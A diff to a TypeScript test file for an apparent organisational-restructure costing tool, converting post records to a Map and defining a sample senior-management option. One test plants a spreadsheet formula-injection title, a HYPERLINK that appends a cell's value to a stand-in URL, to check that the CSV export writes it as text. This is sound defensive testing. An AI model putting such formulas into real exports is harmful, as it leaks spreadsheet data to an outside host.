@@ -26,26 +26,32 @@ function option(): Structure {
 	s.id = 'option-1';
 	s.name = 'Option 1';
 	s.derivedFrom = 'clt-2020';
-	s.posts['assistant-chief-executive'].status = 'deleted';
-	delete s.posts['director-hr'];
+	s.posts.get('assistant-chief-executive')!.status = 'deleted';
+	s.posts = new Map([...s.posts].filter(([id]) => id !== 'director-hr'));
 	s.grades['purpose-director'] = grade('purpose-director', 'Purpose Director', 160000);
-	s.posts['md-city-operations'] = post('md-city-operations', 'Managing Director: City Operations', {
-		reportsTo: 'ceo',
-		status: 'new',
-		funding: { generalFund: 60, hra: 40 },
-		start: '2021-07-01'
-	});
-	s.posts['pd-city-futures'] = post('pd-city-futures', 'Purpose Director: City Futures', {
-		grade: 'purpose-director',
-		reportsTo: 'ceo',
-		status: 'new',
-		statutoryRoles: ['dcs']
-	});
-	s.posts['city-solicitor'].grade = 'assistant-director';
-	s.posts['director-public-health'].reportsTo = 'pd-city-futures';
-	s.posts['director-education-skills'].statutoryRoles = [];
+	s.posts = new Map(s.posts).set(
+		'md-city-operations',
+		post('md-city-operations', 'Managing Director: City Operations', {
+			reportsTo: 'ceo',
+			status: 'new',
+			funding: { generalFund: 60, hra: 40 },
+			start: '2021-07-01'
+		})
+	);
+	s.posts = new Map(s.posts).set(
+		'pd-city-futures',
+		post('pd-city-futures', 'Purpose Director: City Futures', {
+			grade: 'purpose-director',
+			reportsTo: 'ceo',
+			status: 'new',
+			statutoryRoles: ['dcs']
+		})
+	);
+	s.posts.get('city-solicitor')!.grade = 'assistant-director';
+	s.posts.get('director-public-health')!.reportsTo = 'pd-city-futures';
+	s.posts.get('director-education-skills')!.statutoryRoles = [];
 	// A new source note is not a change to the post: it must not be listed.
-	s.posts['director-neighbourhoods'].provenance = { kind: 'assumption', note: 're-sourced' };
+	s.posts.get('director-neighbourhoods')!.provenance = { kind: 'assumption', note: 're-sourced' };
 	s.statedCostChange = {
 		label: 'Net increase in senior establishment cost',
 		value: 510000,
@@ -307,7 +313,7 @@ describe('postsCsv', () => {
 
 	it('postsCsv writes a title that a spreadsheet would run as a formula as text', () => {
 		const s = option();
-		s.posts['pd-city-futures'].title = '=HYPERLINK("http://x/?"&A2,"Click")';
+		s.posts.get('pd-city-futures')!.title = '=HYPERLINK("http://x/?"&A2,"Click")';
 		const r = buildCostedOptionsReport(
 			{ structure: clt2020(), version: 1, builtIn: true },
 			[{ structure: s, version: 3, builtIn: false }],
